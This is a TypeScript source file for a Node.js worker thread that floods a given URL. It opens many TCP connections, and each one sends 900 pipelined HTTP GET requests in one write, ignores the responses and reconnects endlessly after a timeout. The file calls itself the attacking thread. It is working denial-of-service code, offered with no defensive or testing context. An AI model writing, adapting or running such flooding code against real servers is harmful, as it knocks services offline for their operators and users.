/** The thread that attacks: connections that each send hundreds of requests in one write and never read an answer. */
import { connect } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

export interface Flood {
  /** The address that they request. */
  url: string;
  connections: number;
  /** Milliseconds after which a connection is given up and opened anew. */
  stay: number;
}

const { url, connections, stay } = workerData as Flood;
const { hostname, port, host, pathname } = new URL(url);
const requests = `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(900);

function attack(): void {
  const socket = connect({ port: Number(port), host: hostname });
  socket.pause();
  socket.on('connect', () => {
    socket.write(requests);
    setTimeout(() => socket.destroy(), stay);
  });
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(attack, 5));
}

for (let number = 0; number < connections; number += 1) attack();
parentPort?.postMessage('begun', []);
